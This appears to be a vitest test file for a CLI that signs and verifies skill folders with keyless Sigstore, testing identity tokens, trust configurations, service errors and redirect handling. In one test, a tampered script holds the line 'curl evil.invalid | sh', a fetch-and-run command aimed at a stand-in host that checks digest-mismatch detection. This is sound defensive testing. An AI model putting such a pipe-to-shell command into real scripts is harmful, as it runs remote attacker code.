import { readdirSync, readFileSync, rmSync } from "node:fs";
import { createServer, get } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";

import type { CommandLine } from "../../../src/cli/command-line.ts";
import { identity, issuer } from "../../fixtures/sigstore.ts";
import { startSigstore, tokenOf, type SigstoreServer } from "../../fixtures/sigstore-server.ts";
import { documents, run } from "./line.ts";
import { makeSkillFolder, type SkillFolder } from "./skill-folder.ts";

let server: SigstoreServer;
let home: string;
let skill: string;
let put: SkillFolder["put"];
let root: string;
let token: string;

beforeAll(async () => {
  server = await startSigstore();
});
afterAll(() => server.close());

beforeEach(() => {
  ({ home, skill, put } = makeSkillFolder());
  root = put("trusted_root.json", JSON.stringify(server.sigstore.trustedRoot));
  token = put("token.jwt", `${tokenOf({ sub: identity, iss: issuer })}\n`);
  server.asked.length = 0;
  server.override.clear();
});
afterEach(() => {
  rmSync(home, { recursive: true });
});

const services = () => ["--fulcio-url", server.url, "--rekor-url", server.url];
const sign = (args: readonly string[], over: Partial<CommandLine> = {}) =>
  run(["sign", skill, "--keyless", ...args], over);
const signHere = (...args: readonly string[]) =>
  sign(["--identity-token", token, ...services(), "--trusted-root", root, ...args]);
const verify = (...args: readonly string[]) =>
  run(["verify", skill, "--trusted-root", root, "-o", "json", ...args]);
const who = ["--identity", identity, "--issuer", issuer];

/** A ClientTrustConfig of the server, with changes to its signing configuration. */
const trustConfig = (changes: object = {}, version = 1): string =>
  put(
    "trust-config.json",
    JSON.stringify({
      mediaType: "application/vnd.dev.sigstore.clienttrustconfig.v0.1+json",
      trustedRoot: server.sigstore.trustedRoot,
      signingConfig: {
        mediaType: "application/vnd.dev.sigstore.signingconfig.v0.2+json",
        caUrls: [{ url: server.url, majorApiVersion: 1, validFor: { start: "2024-01-01T00:00:00Z" } }],
        rekorTlogUrls: [
          { url: server.url, majorApiVersion: version, validFor: { start: "2024-01-01T00:00:00Z" } },
        ],
        rekorTlogConfig: { selector: "ANY" },
        tsaUrls: [{ url: `${server.url}/api/v1/timestamp`, majorApiVersion: 1 }],
        tsaConfig: { selector: "ANY" },
        ...changes,
      },
    }),
  );

const signed = () => readdirSync(skill).includes("skill.oms.sig");

describe("sign --keyless", () => {
  it("signs with the token's identity, and verify passes with that identity and issuer only", async () => {
    const { code, out, err } = await signHere();
    expect([code, err]).toEqual([0, ""]);
    expect(out).toContain("2 files\n  SKILL.md\n  scripts/run.sh\n");
    expect(out).toContain(`signer    ${identity} (${issuer})\n`);
    expect(out).toContain(
      `check it with: skill-admission verify ${skill} --identity ${identity} --issuer ${issuer} --trusted-root ${root}\n`,
    );
    expect(server.asked).toEqual(["/api/v2/signingCert", "/api/v1/log/entries"]);
    const verified = await verify(...who);
    expect([verified.code, verified.err]).toEqual([0, ""]);
    expect(documents(verified.out)[0]).toMatchObject({
      outcome: "allow",
      digest: /^digest {4}(sha256:[0-9a-f]{64})$/m.exec(out)?.[1],
      signature: { format: "oms", outcome: "signed", signer: { kind: "keyless", identity, issuer } },
      grades: { integrity: "STRONG", authorship: "STRONG", freshness: "MEDIUM" },
    });
    expect((await verify("--identity", `${identity}.1`, "--issuer", issuer)).code).toBe(1);
    expect((await verify("--identity", identity, "--issuer", `${issuer}.example`)).code).toBe(1);
    put("demo/scripts/run.sh", "curl evil.invalid | sh\n");
    expect(documents((await verify(...who)).out)[0]).toMatchObject({
      findings: [{ code: "DIGEST_MISMATCH", path: "scripts/run.sh" }],
    });
  });

  it("adds a timestamp, where an authority is named", async () => {
    expect(await signHere("--tsa-url", `${server.url}/api/v1/timestamp`)).toMatchObject({ code: 0, err: "" });
    expect(server.asked).toContain("/api/v1/timestamp");
    const bundle = JSON.parse(readFileSync(join(skill, "skill.oms.sig"), "utf8")) as {
      mediaType: string;
      verificationMaterial: { timestampVerificationData: { rfc3161Timestamps: unknown[] } };
    };
    expect(bundle.mediaType).toBe("application/vnd.dev.sigstore.bundle.v0.3+json");
    expect(bundle.verificationMaterial.timestampVerificationData.rfc3161Timestamps).toHaveLength(1);
    expect((await verify(...who)).code).toBe(0);
  });

  it.each([1, 2])("signs where a ClientTrustConfig says, with Rekor %i", async (version) => {
    const { code, err } = await sign(["--identity-token", token, "--trust-config", trustConfig({}, version)]);
    expect([code, err]).toEqual([0, ""]);
    expect(server.asked.sort()).toEqual(
      ["/api/v1/timestamp", "/api/v2/signingCert", `/api/v${version}/log/entries`].sort(),
    );
    expect((await verify(...who)).code).toBe(0);
  });

  it("takes the newest service that has begun and has not ended", async () => {
    const service = (host: string, validFor: object) => ({
      url: `https://${host}.invalid`,
      majorApiVersion: 1,
      validFor,
    });
    const caUrls = [
      service("later", { start: "2200-01-01T00:00:00Z" }),
      service("ended", { start: "2025-01-01T00:00:00Z", end: "2025-02-01T00:00:00Z" }),
      { url: `${server.url}/`, majorApiVersion: 1, validFor: { start: "2024-01-01T00:00:00Z" } },
    ];
    expect(await sign(["--identity-token", token, "--trust-config", trustConfig({ caUrls })])).toMatchObject({
      code: 0,
    });
  });

  it("replaces a signature with --force only, and asks nobody before", async () => {
    await signHere();
    server.asked.length = 0;
    expect((await signHere()).err).toContain("--force");
    expect(server.asked).toEqual([]);
    expect((await signHere("--force")).code).toBe(0);
  });

  it("says where it was not checked whether that Sigstore signed", async () => {
    const { code, out, err } = await sign(["--identity-token", token, ...services()]);
    expect(code).toBe(0);
    expect(err).toBe(
      "warning: that this Sigstore instance signed was not checked: name its trusted root with --trusted-root\n",
    );
    expect(out).toContain("--trusted-root TRUSTED_ROOT_FILE\n");
    expect((await verify(...who)).code).toBe(0);
  });
});

describe("the identity token", () => {
  const given = () => tokenOf({ sub: identity, iss: issuer });
  const args = () => [...services(), "--trusted-root", root];

  it("comes from standard input, or from SIGSTORE_ID_TOKEN", async () => {
    const readStdin = () => Promise.resolve(Buffer.from(given()));
    expect((await sign([...args(), "--identity-token", "-"], { readStdin })).code).toBe(0);
    const identityToken = tokenOf({ sub: identity, iss: "https://gitlab.example.com" });
    const second = await sign([...args(), "--force"], { identityToken });
    expect(second.out).toContain(`signer    ${identity} (https://gitlab.example.com)\n`);
  });

  it("comes from GitHub Actions, made out for Sigstore, where the job may have one", async () => {
    const seen: (string | undefined)[] = [];
    const github = createServer((request, response) => {
      seen.push(request.url, request.headers.authorization);
      response.end(JSON.stringify({ value: given() }));
    });
    await new Promise<void>((resolve) => github.listen(0, "127.0.0.1", resolve));
    const { port } = github.address() as AddressInfo;
    const githubActions = {
      requestUrl: `http://127.0.0.1:${port}/token?api-version=2.0`,
      requestToken: "request-token",
    };
    const { code, out } = await sign(args(), { githubActions });
    github.close();
    expect(code).toBe(0);
    expect(out).toContain(`signer    ${identity} (${issuer})\n`);
    expect(seen).toEqual(["/token?api-version=2.0&audience=sigstore", "Bearer request-token"]);
  });

  it.each<[string, Partial<CommandLine>, RegExp]>([
    [
      "none",
      {},
      /keyless signing needs an identity token\ngive --identity-token FILE, set SIGSTORE_ID_TOKEN/,
    ],
    ["an empty one", { identityToken: "" }, /needs an identity token/],
    [
      "one that is none",
      { identityToken: "secret" },
      /SIGSTORE_ID_TOKEN holds no OpenID Connect identity token/,
    ],
    [
      "one that has expired",
      { identityToken: tokenOf({ sub: identity, iss: issuer, exp: 1_700_000_000 }) },
      /the identity token in SIGSTORE_ID_TOKEN has expired/,
    ],
    [
      "GitHub where it is not https",
      { githubActions: { requestUrl: "http://tokens.example.com/", requestToken: "t" } },
      /ACTIONS_ID_TOKEN_REQUEST_URL is not https/,
    ],
    [
      "GitHub where nobody answers",
      { githubActions: { requestUrl: "http://127.0.0.1:9/", requestToken: "t" } },
      /GitHub Actions gave no identity token/,
    ],
  ])("is missed: %s; nobody is asked and nothing written", async (_what, over, message) => {
    const { code, out, err } = await sign(args(), over);
    expect([code, out]).toEqual([2, ""]);
    expect(err).toMatch(message);
    expect(err).not.toContain("secret");
    expect(server.asked).toEqual([]);
    expect(signed()).toBe(false);
  });
});

describe("sign --keyless refuses, and writes nothing, where", () => {
  it.each<[string, () => readonly string[], RegExp]>([
    ["a key is named too", () => ["--key", "k.pem"], /cannot be used with/],
    ["certificates are named", () => ["--certificate-chain", "c.pem"], /cannot be used with/],
    ["the format has no place for it", () => ["--format", "guide"], /knows no keyless signers/],
    [
      "a service is not https",
      () => ["--fulcio-url", "http://fulcio.example.com"],
      /--fulcio-url is not https/,
    ],
    ["a service is no URL", () => ["--rekor-url", "rekor"], /--rekor-url is no URL/],
    ["an address holds a password", () => ["--tsa-url", "https://a:b@example.com"], /more than a host/],
    [
      "the trusted root is none",
      () => ["--trusted-root", put("r.json", "{}")],
      /r\.json: .*mediaType is missing/,
    ],
    ["the trusted root is not there", () => ["--trusted-root", "nowhere.json"], /cannot read nowhere\.json/],
    [
      "the configuration is none",
      () => ["--trust-config", put("c.json", "{}")],
      /c\.json: .*mediaType is missing/,
    ],
    [
      "the configuration names no service for today",
      () => ["--trust-config", trustConfig({ caUrls: [] })],
      /signingConfig\.caUrls names no service for today/,
    ],
    [
      "the configuration names no log",
      () => ["--trust-config", trustConfig({ rekorTlogConfig: undefined })],
      /a signature that is in no log proves nothing/,
    ],
    [
      "the configuration has an unknown field",
      () => ["--trust-config", trustConfig({ extra: 1 })],
      /unknown field "extra"/,
    ],
    [
      "the configuration names a service that is not https",
      () => ["--trust-config", trustConfig({ caUrls: [{ url: "http://a.example", majorApiVersion: 1 }] })],
      /signingConfig\.caUrls\[0\]\.url is not https/,
    ],
    [
      "the configuration is older",
      () => [
        "--trust-config",
        trustConfig({ mediaType: "application/vnd.dev.sigstore.signingconfig.v0.1+json" }),
      ],
      /signingConfig's media type is/,
    ],
    [
      "the configuration stands beside a service",
      () => ["--trust-config", trustConfig(), "--rekor-url", server.url],
      /cannot be used with/,
    ],
  ])("%s", async (_what, args, message) => {
    const { code, out, err } = await sign(["--identity-token", token, ...args()]);
    expect([code, out]).toEqual([2, ""]);
    expect(err).toMatch(message);
    expect(server.asked).toEqual([]);
    expect(signed()).toBe(false);
  });

  it.each<[string, string]>([
    ["the authority", "/api/v2/signingCert"],
    ["the log", "/api/v1/log/entries"],
  ])("%s refuses, saying what it said", async (_what, path) => {
    server.override.set(path, () =>
      Promise.resolve({ statusCode: 400, response: JSON.stringify({ message: "not you" }) }),
    );
    const { code, out, err } = await signHere();
    expect([code, out]).toEqual([2, ""]);
    expect(err).toMatch(/Sigstore did not sign: error creating .* - \(400\) not you\nnothing was written/);
    expect(signed()).toBe(false);
  });

  it.each<[string, string, string]>([
    ["the authority answers with nothing", "/api/v2/signingCert", "{}"],
    ["the authority answers with a page", "/api/v2/signingCert", "<html>"],
    ["the log answers with nothing", "/api/v1/log/entries", "{}"],
    [
      "the log answers with an entry without proof",
      "/api/v1/log/entries",
      '{"a":{"body":"e30=","logIndex":1}}',
    ],
    ["the log answers with a list", "/api/v1/log/entries", "[1]"],
  ])("%s", async (_what, path, response) => {
    server.override.set(path, () => Promise.resolve({ statusCode: 201, response }));
    const { code, out, err } = await signHere();
    expect([code, out]).toEqual([2, ""]);
    expect(err).toMatch(/^error: (?:Sigstore did not sign|the signature would not be accepted): /);
    expect(signed()).toBe(false);
  });

  it("the log answers with the entry of another signature", async () => {
    const { authorities } = server.sigstore;
    const body = { apiVersion: "0.0.1", kind: "dsse", spec: { signatures: [] } };
    const entry = JSON.stringify(await authorities.tlog.log(body));
    server.override.set("/api/v1/log/entries", () => Promise.resolve({ statusCode: 201, response: entry }));
    const { code, err } = await signHere();
    expect(code).toBe(2);
    expect(err).toContain("the signature would not be accepted: ");
    expect(signed()).toBe(false);
  });

  it("the token names nobody, and shows it to nobody", async () => {
    const nobody = tokenOf({ iss: issuer });
    const { code, err } = await sign([...services(), "--trusted-root", root], { identityToken: nobody });
    expect(code).toBe(2);
    expect(err).toContain(
      "Sigstore did not sign: invalid identity token: (the token): JWT subject not found",
    );
    expect(err).not.toContain(nobody.split(".")[1]);
  });

  it("another Sigstore signed than the trusted root's", async () => {
    const other = await startSigstore();
    const stranger = put("other.json", JSON.stringify(other.sigstore.trustedRoot));
    await other.close();
    const { code, err } = await sign([
      ...["--identity-token", token, ...services()],
      ...["--trusted-root", stranger],
    ]);
    expect(code).toBe(2);
    expect(err).toContain("its transparency log is in no trusted Sigstore root");
    expect(err).toContain("name the trusted root of the Sigstore instance that signs");
    expect(signed()).toBe(false);
  });

  it("options of keyless signing are given without it", async () => {
    const { err, code } = await run(["sign", skill, "--key", "k", "--trusted-root", root]);
    expect(code).toBe(2);
    expect(err).toContain("--trusted-root is for keyless signing");
  });
});

describe("sign --keyless, where a service redirects,", () => {
  /** Somebody else, who writes down what comes. */
  async function withStranger(use: (url: string, came: readonly string[]) => Promise<void>): Promise<void> {
    const came: string[] = [];
    const stranger = createServer((request, response) => {
      came.push(request.url ?? "");
      request.resume().on("end", () => response.writeHead(201).end("{}"));
    });
    await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
    try {
      await use(`http://127.0.0.1:${(stranger.address() as AddressInfo).port}`, came);
    } finally {
      stranger.closeAllConnections();
      stranger.close();
    }
  }

  const [certificates, log] = ["/api/v2/signingCert", "/api/v1/log/entries"];
  // Of these the first is followed without what was sent, the other ones with it.
  it.each([
    [certificates, 302],
    [certificates, 307],
    [certificates, 308],
    [log, 307],
  ] as const)("sends nothing to another host: %s, %i", (path, statusCode) =>
    withStranger(async (url, came) => {
      server.override.set(path, () =>
        Promise.resolve({ statusCode, response: "", location: `${url}/taken` }),
      );
      const { code, out, err } = await signHere();
      expect([code, out]).toEqual([2, ""]);
      expect(err).toContain(`a service redirects to ${url}, which is none of the named ones`);
      expect(err).not.toContain(tokenOf({ sub: identity, iss: issuer }));
      expect(came).toEqual([]);
      expect(signed()).toBe(false);
    }),
  );

  it("follows it at the same host", async () => {
    server.override.set("/api/v2/signingCert", () => {
      server.override.clear();
      return Promise.resolve({ statusCode: 307, response: "", location: "/api/v2/signingCert" });
    });
    expect(await signHere()).toMatchObject({ code: 0, err: "" });
    expect(server.asked).toEqual(["/api/v2/signingCert", "/api/v2/signingCert", "/api/v1/log/entries"]);
  });

  it("lets other requests of this process go again afterwards", () =>
    withStranger(async (url, came) => {
      expect((await signHere()).code).toBe(0);
      await new Promise<void>((resolve, reject) => {
        get(`${url}/later`, (response) => response.resume().on("end", resolve)).on("error", reject);
      });
      expect(came).toEqual(["/later"]);
    }));
});
